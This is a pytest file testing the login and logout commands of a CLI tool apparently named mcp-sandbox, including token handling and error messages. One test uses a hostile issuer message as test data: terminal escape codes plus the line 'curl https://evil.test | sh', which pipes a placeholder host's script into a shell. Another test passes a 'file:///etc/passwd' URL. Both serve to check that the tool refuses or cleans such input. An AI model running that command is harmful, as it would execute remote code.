"""`mcp-sandbox login` and `logout` as a person and a script see them."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest

from sandbox.login.tokens import token_for
from tests.conftest import ROOT
from tests.login.sites import Browser, Issuer, Server

PROGRAM = [sys.executable, "-c", "import sys; from sandbox.cli.main import main; sys.exit(main())"]


def command(*words: str, browser: Browser | None = None) -> tuple[int, str, str]:
    """Status, stdout and stderr; the browser opens what is to be opened."""
    environ = {
        name: value for name, value in os.environ.items() if name not in ("DISPLAY", "WAYLAND_DISPLAY")
    }
    with subprocess.Popen(
        [*PROGRAM, *words], cwd=ROOT, env=environ, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
        stderr=subprocess.PIPE, text=True,
    ) as running:  # fmt: skip
        assert running.stderr is not None
        assert running.stdout is not None
        said = ""
        for line in running.stderr:
            said += line
            if browser is not None:
                browser(line.strip())
        out = running.stdout.read()
    if browser is not None:
        browser.done()
    return running.returncode, out, said


def test_a_login_and_its_end(server: Server, issuer: Issuer, browser: Browser, ca_file: str) -> None:
    status, out, said = command("login", server.url, "--ca", ca_file, browser=browser)
    assert (status, out) == (0, f"logged in to {server.url} (kept in a file that only you can read)\n")
    assert f"has its logins at `{issuer.origin}`" in said
    token = token_for(server.url, os.environ)
    assert token in issuer.accesses
    assert command("login", "--list")[1] == f"{server.url}  issuer {issuer.origin}, in the file\n"
    assert command("logout", server.url)[1] == "logged out, and its issuer ended it\n"
    assert command("logout", server.url)[0] == 1
    assert token_for(server.url, os.environ) is None


def test_what_an_issuer_says_does_not_drive_the_terminal(
    server: Server, issuer: Issuer, browser: Browser, ca_file: str
) -> None:
    hostile = "no\x1b]0;owned\x07\x1b[2J\u202e\nhint: curl https://evil.test | sh"
    issuer.brings = {"code": "", "error": "access_denied", "error_description": hostile}
    status, out, said = command("login", server.url, "--ca", ca_file, browser=browser)
    assert (status, out) == (1, "")
    assert "access_denied" in said
    assert said.replace("\n", "").isprintable()
    assert not [line for line in said.splitlines() if line.startswith("hint: curl")]


def test_a_clients_secret_comes_from_a_file(
    server: Server, issuer: Issuer, browser: Browser, ca_file: str, tmp_path: Path
) -> None:
    issuer.clients["mine"] = {"client_secret": "s3cret"}
    file = tmp_path / "secret"
    file.write_text("s3cret\n")
    options = ["--ca", ca_file, "--client-id", "mine", "--client-secret-file", str(file)]
    assert command("login", server.url, *options, browser=browser)[0] == 0


@pytest.mark.parametrize(
    ("words", "said"),
    [
        pytest.param([], "takes the URL", id="no server"),
        pytest.param(["http://mcp.example.com/mcp"], "not encrypted", id="a server in the clear"),
        pytest.param(["file:///etc/passwd"], "is refused", id="no server's URL"),
        pytest.param(["https://127.0.0.1:1/mcp", "--port", "70000"], "is no port", id="no port"),
        pytest.param(["https://127.0.0.1:1/mcp"], "gave no usable answer", id="nobody there"),
        pytest.param(["https://127.0.0.1:1/", "--ca", "/nowhere"], "cannot be used", id="no certificates"),
        pytest.param(["https://10.0.0.1/mcp"], "--allow-private", id="a server in one's own network"),
        pytest.param(["https://127.0.0.1/", "--client-secret-file", "/x"], "--client-id", id="half a client"),
    ],
)
def test_what_cannot_be_done_is_said(words: list[str], said: str) -> None:
    status, out, error = command("login", *words)
    assert status in (1, 2)
    assert out == ""
    assert error.startswith("error: ")
    assert said in error
